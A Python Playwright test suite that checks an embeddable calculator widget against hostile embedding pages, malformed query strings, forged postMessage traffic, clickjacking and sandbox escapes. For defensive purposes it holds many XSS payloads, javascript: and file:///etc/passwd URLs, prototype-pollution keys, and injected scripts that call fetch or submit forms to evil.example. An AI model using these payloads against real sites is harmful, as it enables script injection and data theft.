"""Embedders and pages that mean harm: the embed shows the built answer or a plain message, and does nothing else."""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import quote, urlencode

import pytest
from playwright.sync_api import Dialog, Frame, Page, expect

from tests.browser.conftest import Guard, Trap
from tests.browser.embeds.host import (
    BOOKED,
    BUTTON,
    SLUG,
    STILL_HERE_MS,
    Host,
    assert_nothing_stored,
    be_impatient,
    button,
    change,
    frames,
    running,
    show_note,
    stored,
    told,
    until,
)
from tests.browser.widget import reported
from tests.site_server import Rule

SCRIPT = "<script>parent.postMessage('pwned','*');alert(1)</script>"
IMAGE = "<img src=x onerror=\"parent.postMessage('pwned','*');alert(1)\">"
LINK_IS_WRONG = "is to be a full one that begins with https://"
COLOUR_IS_WRONG = "is to be a colour such as"
LABEL_IS_WRONG = "is to be plain text"


# What an embed's page consists of, and what somebody could leave behind in it.
_LOOK = """() => ({
  elements: Object.fromEntries(["script", "style", "iframe", "object", "embed", "img", "base"].map(
    (name) => [name, document.getElementsByTagName(name).length])),
  handlers: [...document.querySelectorAll("*")].flatMap((e) =>
    e.getAttributeNames().filter((name) => name.startsWith("on"))),
  styled: document.documentElement.getAttribute("style"),
  links: [...document.links].map(({ href }) => href).filter((href) => !/^https?:/.test(href)),
  polluted: Object.keys(Object.prototype).concat(["polluted", "__proto__polluted"].filter((name) => name in {})),
})"""


class Watch:
    """What a page and its frames must not do."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.dialogs: list[str] = []
        self.moves: list[str] = []
        self.windows: list[str] = []
        page.on("dialog", self._on_dialog)
        page.on("framenavigated", lambda frame: self.moves.append(frame.url))
        page.context.on("page", lambda one: self.windows.append(one.url))

    def _on_dialog(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def check(self, embeds: list[Frame], address: str) -> None:
        """The frames are still embeds and unharmed, and so is the page around them."""
        until(self.page, lambda: self.page.evaluate("window.heard.length") >= len(embeds), "hello")
        assert self.page.evaluate("window.heard") == [{"reckoner": 1, "type": "hello"}] * len(embeds)
        assert self.page.url == address and self.dialogs == [] and self.windows == []
        assert len(self.moves) == 1 + len(embeds), self.moves
        for frame in embeds:
            seen: dict[str, Any] = frame.evaluate(_LOOK)
            assert "/embed/" in frame.url and "evil.example" not in (seen["styled"] or "")
            assert (seen["handlers"], seen["links"], seen["polluted"]) == ([], [], []), frame.url
            assert {name: count for name, count in seen["elements"].items() if count} == {"script": 2, "base": 1}


# Each: a query, and what the frame says of it ("" for nothing). All of it is on top of a right button.
ADDRESSES = {
    # the button's address
    "javascript": ({"cta_url": "javascript:parent.postMessage('pwned','*')"}, LINK_IS_WRONG),
    "javascript in capitals": ({"cta_url": "JaVaScRiPt:alert(1)"}, LINK_IS_WRONG),
    "javascript after a space": ({"cta_url": " javascript:alert(1)"}, LINK_IS_WRONG),
    "javascript after a control": ({"cta_url": "\x01javascript:alert(1)"}, LINK_IS_WRONG),
    "javascript with a line break": ({"cta_url": "java\nscript:alert(1)"}, LINK_IS_WRONG),
    "javascript that looks like https": ({"cta_url": "javascript:'https://book.example.com'"}, LINK_IS_WRONG),
    "https with a line break": ({"cta_url": "https://book.exam\nple.com/"}, LINK_IS_WRONG),
    "data": ({"cta_url": f"data:text/html,{SCRIPT}"}, LINK_IS_WRONG),
    "vbscript": ({"cta_url": "vbscript:msgbox(1)"}, LINK_IS_WRONG),
    "blob": ({"cta_url": "blob:https://book.example.com/1"}, LINK_IS_WRONG),
    "file": ({"cta_url": "file:///etc/passwd"}, LINK_IS_WRONG),
    "about": ({"cta_url": "about:srcdoc"}, LINK_IS_WRONG),
    "view-source": ({"cta_url": "view-source:https://book.example.com"}, LINK_IS_WRONG),
    "intent": ({"cta_url": "intent://book.example.com#Intent;scheme=https;end"}, LINK_IS_WRONG),
    "http": ({"cta_url": "http://book.example.com/"}, LINK_IS_WRONG),
    "web socket": ({"cta_url": "wss://book.example.com/"}, LINK_IS_WRONG),
    "protocol-relative": ({"cta_url": "//evil.example/"}, LINK_IS_WRONG),
    "relative": ({"cta_url": "/calculators/"}, LINK_IS_WRONG),
    "one slash": ({"cta_url": "https:/evil.example"}, LINK_IS_WRONG),
    "three slashes": ({"cta_url": "https:///evil.example"}, LINK_IS_WRONG),
    "backslashes": ({"cta_url": "https:\\\\evil.example"}, LINK_IS_WRONG),
    "backslash before the at sign": ({"cta_url": "https://evil.example\\@book.example.com"}, LINK_IS_WRONG),
    "a name and a password": ({"cta_url": "https://book.example.com:x@evil.example/"}, "no user name or password"),
    "a broken host": ({"cta_url": "https://[::1"}, LINK_IS_WRONG),
    "a space in the host": ({"cta_url": "https://book example.com"}, LINK_IS_WRONG),
    "text turned around": ({"cta_url": "https://evil.example/\u202emoc.elpmaxe.koob"}, LINK_IS_WRONG),
    "8 KB": ({"cta_url": "https://book.example.com/" + "a" * 7000}, "at most 2000 characters"),
    "empty": ({"cta_url": ""}, LINK_IS_WRONG),
    # its text
    "a script as text": ({"cta_label": "</a><script>alert(1)</script>"}, ""),
    "an image as text": ({"cta_label": "<img src=x onerror=alert(1)>"}, ""),
    "long text": ({"cta_label": "a" * 61}, "at most 60 characters"),
    "no text": ({"cta_label": "   "}, LABEL_IS_WRONG),
    "text that turns around": ({"cta_label": "Pay \u202emoc.elgoog"}, LABEL_IS_WRONG),
    "a null": ({"cta_label": "a\0b"}, LABEL_IS_WRONG),
    # colours
    "markup as a colour": ({"accent": f"red;}}</style>{SCRIPT}"}, COLOUR_IS_WRONG),
    "an address as a colour": ({"accent": "url(https://evil.example/x.png)"}, COLOUR_IS_WRONG),
    "more than a colour": ({"accent": "#0b7a75;background:url(//evil.example)"}, COLOUR_IS_WRONG),
    "an expression": ({"accent": "expression(alert(1))"}, COLOUR_IS_WRONG),
    "a variable": ({"accent": "var(--rk-line)"}, COLOUR_IS_WRONG),
    "a colour with a line break": ({"accent": "#0b7a75\n"}, COLOUR_IS_WRONG),
    "not quite a colour": ({"accent": "#0b7a7g"}, COLOUR_IS_WRONG),
    # the rest
    "markup as a theme": ({"theme": '"><script>alert(1)</script>'}, "light, dark or auto"),
    "a property as a theme": ({"theme": "constructor"}, "light, dark or auto"),
    "sharing by a word": ({"share": "true"}, "switched on by 1"),
    "no such day": ({"as_of": "2026-02-30"}, "is to be written as"),
    "markup as a day": ({"as_of": SCRIPT}, "is to be written as"),
    "a path as a version": ({"v": "../../x"}, "eight digits or letters"),
    # inputs
    "markup as an input": ({"years": IMAGE[:60]}, None),
    "code as an input": ({"years": "__import__('os')"}, None),
    "endless": ({"years": "1e999"}, None),
    "not a number": ({"years": "NaN"}, None),
    "a path as a choice": ({"system": "../../etc/passwd"}, None),
    "a prototype as a choice": ({"system": "__proto__"}, None),
    "a null in an input": ({"years": "4\0"}, '"years" is to be plain text.'),
    "a long input": ({"years": "9" * 101}, '"years" is to have at most 100 characters.'),
    "an unknown input": ({"nope": "1"}, 'There is no input "nope".'),
    "markup as a name": ({IMAGE: "1"}, 'There is no input "<img src=x'),
    "__proto__": ({"__proto__": "1"}, 'There is no input "__proto__".'),
    "__proto__ with a key": ({"__proto__[polluted]": "1"}, "There is no input"),
    "__proto__ with a dot": ({"__proto__.polluted": "1"}, "There is no input"),
    "constructor": ({"constructor[prototype][polluted]": "1"}, "There is no input"),
    "toString": ({"toString": "1"}, 'There is no input "toString".'),
    "hasOwnProperty": ({"hasOwnProperty": "1"}, "There is no input"),
    "our own attributes": ({"data-query": "years=9", "data-base": "//evil.example/"}, "There is no input"),
    "our own files": ({"base": "//evil.example/", "files": "{}"}, "There is no input"),
    "many unknown ones": ({f"x{k}": "1" for k in range(300)}, "There is no input"),
    "too much of everything": ({f"x{k}": "1" * 90 for k in range(100)}, "longer than 8000 characters"),
    "no name": ({"": "1"}, "There is no input"),
    # campaigns
    "markup in a campaign": ({"utm_source": SCRIPT, "gclid": "javascript:alert(1)"}, ""),
    "a long campaign": ({"utm_source": "a" * 513}, ""),
    "a campaign's name with more in it": ({"utm_source[x]": "1"}, "There is no input"),
    "a result that is not one": ({"reckoner_headline": "You have won"}, "There is no input"),
}
# Written out: urlencode would not repeat or break.
QUERIES = {
    "an input twice": ("years=3&years=4", '"years" is given twice.'),
    "an accent twice": ("accent=%230b7a75&accent=red", '"accent" is given twice.'),
    "a button twice": (f"cta_url={quote('https://evil.example/')}", '"cta_url" is given twice.'),
    "a version twice": ("v=01234567&years=3&v=01234567", '"v" is given twice.'),
    "half a percent": ("years=%ZZ", None),
    "not UTF-8": ("years=%ff%fe", None),
    "a second question mark": ("?years=3", "There is no input"),
    "markup behind the hash": (f"#{SCRIPT}", ""),
    "a query behind the hash": ("#cta_url=javascript:alert(1)", ""),
}


CASES = [*ADDRESSES, *QUERIES]
FRAMES_ON_A_PAGE = 12


def test_the_suite_is_as_large_as_it_says() -> None:
    assert len(CASES) == len(set(CASES)) >= 75


@pytest.mark.parametrize("first", range(0, len(CASES), FRAMES_ON_A_PAGE))
def test_hostile_addresses(first: int, page: Page, host: Host) -> None:
    """Several on a page, each in a frame of its own."""
    cases = CASES[first : first + FRAMES_ON_A_PAGE]
    body = "".join(host.bare(hostile_query(case), f' name="case-{case}"') for case in cases)
    address = host.page(body)
    watch = Watch(page)
    page.goto(address)
    found = {frame.name: frame for frame in running(page, len(cases))}
    for case in cases:
        check_hostile(case, found[f"case-{case}"])
    watch.check(list(found.values()), address)


def hostile_query(case: str) -> str:
    """With a right button, which what is hostile stands beside."""
    right = {"cta_url": BUTTON, "cta_label": "Book"}
    if case in ADDRESSES:
        return urlencode({**right, **ADDRESSES[case][0]})
    return f"{urlencode(right)}&{QUERIES[case][0]}"


def check_hostile(case: str, frame: Frame) -> None:
    """The frame says what is wrong, shows the built answer, and its button is right or not there."""
    given, said = ADDRESSES[case] if case in ADDRESSES else ({}, QUERIES[case][1])
    problems = frame.locator("[data-embed-problems]")
    if said:
        expect(problems, case).to_contain_text(said)
    elif said == "":
        expect(problems, case).to_be_hidden()
    else:  # only the calculator knows: it refuses in words, and the built answer stands
        expect(frame.locator(".rk-error:visible").first, case).to_be_visible()
        expect(frame.locator("[data-stale-note]"), case).to_be_visible()
    assert frame.locator("[data-headline]").inner_text() == reported(SLUG)["headline"], case
    leads_to = button(frame)
    is_button_wrong = "cta_url" in given or case in ("a button twice", "too much of everything")
    assert leads_to.startswith("https://book.example.com/now") or (leads_to == "" and is_button_wrong), (case, leads_to)
    if leads_to:
        label = frame.locator(".embed-button").inner_text()
        assert label == (given.get("cta_label", "Book") if not (said and "cta_label" in given) else "Continue"), case
        expect(frame.locator("[data-embed-target]"), case).to_have_text("book.example.com")


# ---- elements


ELEMENTS = {
    "no calculator": ({"calculator": ""}, False),
    "a path": ({"calculator": "../colo-power"}, False),
    "an address": ({"calculator": "//evil.example/x"}, False),
    "markup": ({"calculator": SCRIPT}, False),
    "__proto__": ({"calculator": "__proto__"}, False),
    "a query in the name": ({"calculator": "colo-power/?cta_url=x"}, False),
    "a huge height": ({"height": "1e9"}, True),
    "a negative height": ({"height": "-5"}, True),
    "a height with more in it": ({"height": "5;background:url(//evil.example)"}, True),
    "markup as a title": ({"title": f'x" onload="alert(1)"{SCRIPT}'}, True),
    "settings among the inputs": ({"inputs": "cta_url=javascript:alert(1)&theme=x"}, True),
    "a hash among the inputs": ({"inputs": "years=4#/../../../evil"}, True),
    "another host among the inputs": ({"inputs": "https://evil.example/?years=4"}, True),
    "markup everywhere": ({"accent": SCRIPT, "theme": SCRIPT, "cta_url": SCRIPT, "cta_label": IMAGE}, True),
    "prototypes among the inputs": ({"inputs": "__proto__=1&constructor.prototype.polluted=1"}, True),
}


@pytest.mark.parametrize("case", ELEMENTS)
def test_hostile_elements(case: str, page: Page, host: Host) -> None:
    data, is_shown = ELEMENTS[case]
    address = host.page(host.element(**{"calculator": SLUG, **data}) + host.script)
    watch = Watch(page)
    page.goto(address)
    if not is_shown:
        expect(page.locator("#one")).to_have_text(
            "The calculator could not be shown here. data-calculator does not name a calculator. "
        )
        assert frames(page) == [] and page.locator("#one a").count() == 0
        assert (watch.dialogs, watch.windows, page.url) == ([], [], address)
        return
    (frame,) = running(page)
    until(page, lambda: told(page, "ready"), "ready")
    watch.check([frame], address)
    assert frame.url.startswith(f"{host.site.url}embed/{SLUG}/?") or frame.url == f"{host.site.url}embed/{SLUG}/?"
    assert page.locator("#one > *").count() == 1
    assert button(frame) == ""
    assert page.evaluate("Object.keys(Object.prototype)") == []


# ---- messages


def ready(page: Page, host: Host, body: str = "", **data: str) -> Frame:
    """A page with an embed that has been connected."""
    page.goto(host.page(host.element(**{"cta_url": BUTTON, "share_results": "", **data}) + body + host.script))
    frame = running(page, page.evaluate("document.querySelectorAll('iframe[src*=\"/embed/\"]').length") or 1)[0]
    until(page, lambda: told(page, "ready"), "ready")
    return frame


_CONNECT = """(campaign) => {
  const { port1, port2 } = new MessageChannel();
  window.stolen ??= [];
  port1.onmessage = ({ data }) => stolen.push(data);
  document.querySelector("#one iframe").contentWindow.postMessage(
    { reckoner: 1, type: "connect", campaign }, "*", [port2]);
}"""


def test_a_second_connection_is_not_heard(page: Page, host: Host) -> None:
    frame = ready(page, host)
    before = button(frame)
    for _ in range(3):
        page.evaluate(_CONNECT, [["utm_source", "stolen"]])
    change(frame, "years", "4")
    until(page, lambda: told(page, "result"), "the result, for the first one")
    assert page.evaluate("stolen") == [] and "stolen" not in button(frame) and "utm_source" not in before


@pytest.mark.parametrize(
    "campaign",
    [
        [["utm_source", "<script>alert(1)</script>"], ["cta_url", "javascript:alert(1)"]],
        [["__proto__", "x"], ["constructor", "x"], ["href", "javascript:alert(1)"]],
        [["gclid", "a" * 600]],
        [["ref", 1], ["ref", {"toString": "x"}], "ref", None, 7],
        {"utm_source": "x"},
        "utm_source",
        None,
        [["utm_x" + "abcdefghij"[k % 10] * (k + 1), "1"] for k in range(40)],
    ],
)
def test_hostile_campaigns(campaign: Any, page: Page, host: Host) -> None:
    """From a page with a script of its own in place of embed.js."""
    answer = """<script>addEventListener("message", ({ data, source }) => {
      if (data.type !== "hello") return;
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = ({ data }) => heard.push(data);
      source.postMessage({ reckoner: 1, type: "connect", campaign: window.campaign }, "*", [port2]);
    })</script>"""
    page.add_init_script(f"window.campaign = {json.dumps(campaign)}")
    page.goto(host.page(answer + host.bare(urlencode({"cta_url": BUTTON}))))
    (frame,) = running(page)
    until(page, lambda: any(m.get("type") == "ready" for m in page.evaluate("heard")), "ready")
    link = button(frame)
    assert link.startswith("https://book.example.com/now?from=us")
    assert "<" not in link and "javascript" not in link.replace("javascript%3A", "") and link.count("&") <= 20
    assert "gclid" not in link and "proto" not in link and len(link) < 1200


def test_the_frame_hears_its_own_page_alone(page: Page, host: Host) -> None:
    """Another frame of the host's page, and a frame inside of it, ask to be connected first."""
    thief = """<script>
      const ask = () => {
        for (let k = 0; k < parent.length; k += 1) {
          const { port1, port2 } = new MessageChannel();
          port1.onmessage = ({ data }) => parent.postMessage({ stolen: data }, "*");
          parent[k].postMessage({ reckoner: 1, type: "connect", campaign: [["ref", "stolen"]] }, "*", [port2]);
        }
      };
      setInterval(ask, 5);
    </script>"""
    (host.folder / "thief.html").write_text(thief, encoding="utf-8")
    page.goto(host.page('<iframe src="thief.html"></iframe>' + host.bare(urlencode({"cta_url": BUTTON, "share": "1"}))))
    (frame,) = running(page)
    change(frame, "years", "4")
    page.wait_for_timeout(500)
    assert [m for m in page.evaluate("heard") if "stolen" in m] == []
    assert "stolen" not in button(frame)


FORGED = {
    "another version": {"reckoner": 2, "type": "connect"},
    "a version that equals it": {"reckoner": "1", "type": "connect"},
    "no port": {"reckoner": 1, "type": "connect"},
    "another type": {"reckoner": 1, "type": "result", "result": {}},
    "null": None,
    "text": "connect",
    "a command": {"reckoner": 1, "type": "navigate", "url": "javascript:alert(1)"},
    "an engine's message": {"type": "init", "protocol": 1, "base": "//evil.example/", "files": {}},
}


@pytest.mark.parametrize("case", FORGED)
def test_forged_messages_to_the_frame(case: str, page: Page, host: Host) -> None:
    address = host.page(host.bare(urlencode({"cta_url": BUTTON})))
    watch = Watch(page)
    page.goto(address)
    (frame,) = running(page)
    page.evaluate("(message) => document.querySelector('iframe').contentWindow.postMessage(message, '*')", FORGED[case])
    change(frame, "years", "4")
    watch.check([frame], address)
    assert button(frame) == BUTTON


def test_the_page_hears_its_own_frames_alone(page: Page, host: Host) -> None:
    """Hello, sizes and results from wrong windows: another site's, the right site's but another frame, and itself."""
    forge = """<script>
      for (const type of ["hello", "ready", "size", "result", "cta"]) {
        parent.postMessage({ reckoner: 1, type, height: 5, calculator: "forged", result: { headline: "forged" } }, "*");
      }
      addEventListener("message", () => parent.postMessage("connected", "*"));
    </script>"""
    (host.folder / "forge.html").write_text(forge, encoding="utf-8")
    frame = ready(page, host, '<iframe src="forge.html"></iframe>' + host.bare())
    height = page.evaluate("document.querySelector('#one iframe').style.height")
    page.evaluate(
        """for (const type of ["hello", "ready", "size", "result", "cta"]) {
          postMessage({ reckoner: 1, type, height: 5, calculator: "forged", result: { headline: "forged" } }, "*");
        }"""
    )
    page.wait_for_timeout(500)
    assert "connected" not in page.evaluate("heard")
    assert [id for id, _ in told(page, "ready")] == ["one"] and told(page, "result") == []
    assert page.evaluate("document.querySelector('#one iframe').style.height") == height
    assert frame.url.startswith(host.site.url)


def test_a_flood_of_messages(page: Page, host: Host) -> None:
    frame = ready(page, host)
    page.evaluate(
        """async () => {
          const { contentWindow } = document.querySelector("#one iframe");
          for (let turn = 0; turn < 100; turn += 1) {
            for (let k = 0; k < 500; k += 1) contentWindow.postMessage({ reckoner: 1, type: "connect", k }, "*");
            await new Promise((resolve) => setTimeout(resolve));
          }
        }"""
    )
    change(frame, "years", "4")
    assert frame.locator("[data-headline]").inner_text() == reported(SLUG, "years=4")["headline"]


def test_the_port_has_no_other_direction(page: Page, host: Host) -> None:
    """A page that answers through the port with all that it can think of."""
    answer = """<script>addEventListener("message", ({ data, source }) => {
      if (data.type !== "hello") return;
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = ({ data }) => {
        heard.push(data);
        for (let k = 0; k < 2000; k += 1) {
          port1.postMessage({ type: "cta_url", url: "javascript:alert(1)", inputs: { years: "9" } });
        }
      };
      source.postMessage({ reckoner: 1, type: "connect", campaign: [] }, "*", [port2]);
    })</script>"""
    page.goto(host.page(answer + host.bare(urlencode({"cta_url": BUTTON}))))
    (frame,) = running(page)
    change(frame, "years", "4")
    assert button(frame) == BUTTON
    assert frame.locator("[data-headline]").inner_text() == reported(SLUG, "years=4")["headline"]
    assert [m for m in page.evaluate("heard") if m.get("type") == "result"] == []


# ---- pages that deceive or forbid


@pytest.mark.parametrize(
    "style",
    ["opacity: 0", "opacity: 0.4", "filter: blur(9px)", "clip-path: inset(0 0 95% 0)", "transform: rotate(3deg)"],
)
def test_what_is_hidden_from_the_visitor_is_not_shared(style: str, page: Page, host: Host) -> None:
    frame = ready(page, host, f"<style>#one {{ {style} }}</style>")
    show_note(frame)
    change(frame, "years", "4")
    page.wait_for_timeout(600)
    assert told(page, "result") == [] and "reckoner_" not in button(frame)
    page.evaluate("document.querySelector('style').remove()")
    show_note(frame)
    until(page, lambda: told(page, "result"), "the result, once it can be seen")


def test_a_covered_note_is_not_seen(page: Page, host: Host) -> None:
    cover = '<div style="position: fixed; inset: 0; background: #fff; pointer-events: none">Win a prize!</div>'
    frame = ready(page, host, cover)
    show_note(frame)
    change(frame, "years", "4")
    page.wait_for_timeout(600)
    assert told(page, "result") == [] and "reckoner_" not in button(frame)
    show_note(frame)
    page.wait_for_timeout(300)
    assert told(page, "result") == []
    page.evaluate("document.querySelector('div[style*=fixed]').remove()")
    until(page, lambda: told(page, "result"), "the result, once it is uncovered")


def test_a_press_that_was_stolen_carries_no_result(page: Page, host: Host, guard: Guard, trap: Trap) -> None:
    """The button lies unseen under what the visitor means to press: the press leads on, and tells nothing."""
    guard.origins.add("https://book.example.com")
    page.context.route("https://book.example.com/**", lambda route: route.fulfill(body=BOOKED))
    bait = '<button style="position: fixed; inset: 0; z-index: -1">Win a prize!</button>'
    frame = ready(page, host, f"<style>#one {{ opacity: 0.001 }}</style>{bait}")
    change(frame, "years", "4")
    frame.locator(".embed-button").scroll_into_view_if_needed()
    box = frame.locator(".embed-button").bounding_box()
    assert box and "reckoner_" not in button(frame)
    page.mouse.click(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
    page.wait_for_url("https://book.example.com/**")
    assert page.url == BUTTON
    # Chromium connects to where a pressed link leads, before the page asks.
    page.wait_for_timeout(500)
    page.context.unroute_all()
    assert set(trap.caught) <= {"CONNECT book.example.com:443 HTTP/1.1"}
    trap.caught.clear()


def test_a_page_in_a_sandbox_without_new_windows(page: Page, host: Host, guard: Guard) -> None:
    """The page around may be locked in itself: its frames then cannot leave, whatever their own sandbox allows."""
    guard.expect_errors("Unsafe attempt to initiate navigation", "allow-top-navigation", "Blocked opening")
    be_impatient(page, STILL_HERE_MS)
    host.server.headers = {"Content-Security-Policy": "sandbox allow-scripts allow-same-origin"}
    address = host.page(host.element(cta_url=BUTTON) + host.script)
    page.goto(address)
    (frame,) = running(page)
    change(frame, "years", "4")
    frame.click(".embed-button")
    expect(frame.locator("[data-embed-blocked] a")).to_have_text("https://book.example.com")
    frame.click("[data-embed-blocked] a")
    assert page.url == address and "/embed/" in frame.url and len(page.context.pages) == 1


def test_what_is_stored_would_be_seen(page: Page, host: Host) -> None:
    """Every test here ends with this look (conftest.py)."""
    page.goto(f"{host.site.url}embed/{SLUG}/")
    page.wait_for_selector("html[data-embed=runs]", state="attached")
    assert set(stored(page.main_frame).values()) == {0}
    page.evaluate("""async () => {
      document.cookie = "a=b";
      localStorage.setItem("a", "b");
      sessionStorage.setItem("a", "b");
      await caches.open("a");
      await new Promise((resolve) => {
        indexedDB.open("a").onsuccess = ({ target }) => resolve(target.result.close());
      });
    }""")
    found = stored(page.main_frame)
    assert found == {"cookie": 3, "local": 1, "session": 1, "databases": 1, "caches": 1, "workers": 0}
    with pytest.raises(AssertionError):
        assert_nothing_stored(page.context)
    page.context.clear_cookies()
    with pytest.raises(AssertionError, match="has stored something"):
        assert_nothing_stored(page.context)
    page.evaluate("localStorage.clear(); sessionStorage.clear(); caches.delete('a')")
    page.evaluate("new Promise((resolve) => { indexedDB.deleteDatabase('a').onsuccess = () => resolve(0); })")


def test_an_embed_in_an_embedding_page_in_another_one(page: Page, host: Host) -> None:
    host.page(host.element(cta_url=BUTTON) + host.script, "inner.html")
    page.goto(host.page('<iframe src="inner.html" width="800" height="3000"></iframe>'))
    (frame,) = running(page)
    change(frame, "years", "4")
    inner = next(one for one in page.frames if one.url.endswith("inner.html"))
    assert [kind for kind, *_ in inner.evaluate("told")] == ["ready"] and page.evaluate("told") == []
    assert button(frame) == BUTTON


@pytest.mark.parametrize("flags", ["allow-scripts allow-same-origin", "allow-scripts allow-same-origin allow-popups"])
def test_a_page_that_keeps_its_frames_from_leaving(flags: str, page: Page, host: Host, guard: Guard) -> None:
    guard.expect_errors("Unsafe attempt to initiate navigation", "allow-top-navigation", "Blocked opening")
    be_impatient(page, STILL_HERE_MS)
    address = host.page(host.bare(urlencode({"cta_url": BUTTON}), f' sandbox="{flags}"'))
    page.goto(address)
    (frame,) = running(page)
    change(frame, "years", "4")
    frame.click(".embed-button")
    expect(frame.locator("[data-embed-blocked]")).to_be_visible()
    expect(frame.locator("[data-embed-blocked] a")).to_have_text("https://book.example.com")
    assert page.url == address and "/embed/" in frame.url and button(frame) == BUTTON


def test_the_frame_goes_nowhere_by_itself(cold_page: Page, host: Host, guard: Guard) -> None:
    """Not even with a hostile script in it: the sandbox asks for the visitor's own press."""
    page = cold_page
    guard.expect_errors("Unsafe attempt to initiate navigation", "allow-top-navigation", "Failed to set the 'href'")
    attempt = "try { top.location.href = 'https://evil.example/'; } catch { } alert(1);"
    host.site.rules = [Rule(r"embed-frame\.js$", prepend=attempt)]
    guard.expect_errors("Ignored call to 'alert")
    frame = ready(page, host)
    page.wait_for_timeout(500)
    assert page.url == host.url and button(frame).startswith(BUTTON)


def test_no_inline_script_runs_even_if_it_got_in(page: Page, host: Host, guard: Guard, trap: Trap) -> None:
    guard.expect_errors("Content Security Policy", "violates")
    frame = ready(page, host)
    frame.evaluate(
        """() => {
          document.body.insertAdjacentHTML("beforeend", "<img src='data:,' onerror='window.pwned = 1'>");
          const script = document.createElement("script");
          script.textContent = "window.pwned = 2";
          document.body.append(script);
          const link = document.createElement("a");
          link.href = "javascript:window.pwned = 3";
          link.target = "_self";
          document.body.append(link);
          link.click();
          const form = document.createElement("form");
          form.action = "https://evil.example/";
          document.body.append(form);
          form.submit();
          fetch("https://evil.example/").catch(() => {});
        }"""
    )
    page.wait_for_timeout(300)
    assert frame.evaluate("window.pwned") is None and "/embed/" in frame.url
    # Chromium connects to where a form leads before it looks at the policy, and then asks nothing.
    assert set(trap.caught) <= {"CONNECT evil.example:443 HTTP/1.1"}
    trap.caught.clear()
